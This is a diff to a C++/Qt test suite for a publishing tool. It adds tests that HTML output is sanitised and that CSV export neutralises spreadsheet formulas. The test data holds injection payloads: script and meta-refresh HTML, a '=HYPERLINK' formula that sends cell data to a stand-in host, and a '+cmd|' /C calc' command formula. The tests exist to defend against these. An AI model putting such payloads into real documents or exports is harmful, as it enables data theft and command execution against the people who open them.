@@ -1,10 +1,14 @@
 // SPDX-FileCopyrightText: 2026 The Millrace authors
 // SPDX-License-Identifier: GPL-3.0-or-later
 #include "components/filetargets.h"
+
+#include "components/publishcomponent.h"
+#include "components/running.h"
 #include "components/sitetarget.h"
 #include "support/testcontext.h"
 
 #include <QDir>
+#include <QElapsedTimer>
 #include <QFile>
 #include <QProcess>
 #include <QStandardPaths>
@@ -313,16 +317,53 @@ private Q_SLOTS:
     {
         const QString folder = m_folder.filePath(u"dangers"_s);
         QVERIFY(QDir().mkpath(folder));
-        const auto html = [&](const QByteArray &text) {
-            const Json request = Json::object({{"name", "p"}, {"title", "P"}, {"summary", ""}, {"tags", Json::array()}, {"site", "S"}});
+        const auto html = [&](const QByteArray &text, const char *form = "") {
+            const Json request
+                = Json::object({{"name", "p"}, {"title", "P"}, {"summary", ""}, {"tags", Json::array()}, {"site", "S"}, {"form", form}});
             (void)SiteTarget().deliver({{"k" + text, folder, request, text, 1}}, m_context);
             const QByteArray page = bytesOf(folder + u"/pages/p.html"_s);
             const qsizetype from = page.indexOf("</h1>\n") + 6;
             return page.sliced(from, page.indexOf("\n</article>") - from);
         };
         QCOMPARE(html("<p>a</p><META http-equiv=refresh content='0;url=http://x'><style>*{}</style><scr<script>1</script>ipt>2</script>b"),
-                 "<p>a</p>b"_ba);
+                 "<p>a</p>  <scr ipt>2 b"_ba);
         QCOMPARE(html("<https://example.org> is new"), "<p><a href=\"https://example.org\">https://example.org</a> is new</p>\n"_ba);
+        QCOMPARE(html("<b>x</b> in *Markdown*", "markdown"), "<p>&lt;b&gt;x&lt;/b&gt; in <em>Markdown</em></p>\n"_ba);
+        QCOMPARE(html("Text <mark>x</mark><link href=x>", "html"), "Text <mark>x</mark> "_ba);
+        QElapsedTimer timer;
+        timer.start();
+        (void)html("<p>" + QByteArray("<me").repeated(100'000) + QByteArray("<meta>ta>").repeated(100'000), "html");
+        QVERIFY2(timer.elapsed() < 10'000, qPrintable(QString::number(timer.elapsed())));
+    }
+
+    void aPageSaysTheFormItWasWrittenIn()
+    {
+        const Json config = *Json::parse(R"({"to":"site","at":"/tmp","name":"slug","content":"formatted_content.content || text"})");
+        const auto formOf = [&](const char *data) {
+            const StepResult result = runOnce<PublishComponent>(*Json::parse(data), config);
+            return result.effects.size() == 1 ? result.effects.constFirst().request.value("form").toString() : u"(none)"_s;
+        };
+        QCOMPARE(formOf(R"({"slug":"a","formatted_content":{"format":"html","content":"<p>x</p>"}})"), u"html"_s);
+        QCOMPARE(formOf(R"({"slug":"a","formatted_content":{"format":"markdown","content":"<p>x</p>"}})"), u"markdown"_s);
+        QCOMPARE(formOf(R"({"slug":"a","formatted_content":{"format":"html"},"text":"<p>x</p>"})"), QString());
+    }
+
+    void whatASpreadsheetWouldRunStaysText()
+    {
+        const auto lineOf = [&](const Json &value, bool formulas) {
+            const Json config = Json::object({{"to", "csv"},
+                                              {"at", "/tmp/a.csv"},
+                                              {"columns", Json::array({Json::object({{"title", "A"}, {"value", "a"}})})},
+                                              {"formulas", formulas}});
+            return runOnce<PublishComponent>(Json::object({{"a", value}}), config).effects.value(0).body;
+        };
+        QCOMPARE(lineOf("=HYPERLINK(\"http://x/?\"&A1)", false), "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"\r\n"_ba);
+        for (const char *text : {"@SUM(A1)", "+cmd|' /C calc'!A0", "-A1", "\t=1"})
+            QCOMPARE(lineOf(text, false).replace('"', "").first(1), "'"_ba);
+        QCOMPARE(lineOf("=1+1", true), "=1+1\r\n"_ba);
+        QCOMPARE(lineOf("-12.5", false), "-12.5\r\n"_ba);
+        QCOMPARE(lineOf("+49 (30) 123-4", false), "+49 (30) 123-4\r\n"_ba);
+        QCOMPARE(lineOf(-3, false), "-3\r\n"_ba);
     }
 
     void anIndexThatCannotBeReadIsNotWrittenAnew()
@@ -332,6 +373,7 @@ private Q_SLOTS:
         const Json request = Json::object({{"name", "p"}, {"title", "P"}, {"summary", ""}, {"tags", Json::array()}, {"site", "S"}});
         const auto result = SiteTarget().deliver({{"k", folder, request, "x", 1}}, m_context).constFirst();
         QVERIFY(result.error && result.error->category == ErrorCategory::Retryable);
+        QVERIFY(!QFile::exists(folder + u"/pages/p.html"_s)); // nothing was begun
     }
 
     void marksWithinCodeAndAddressesAreText()
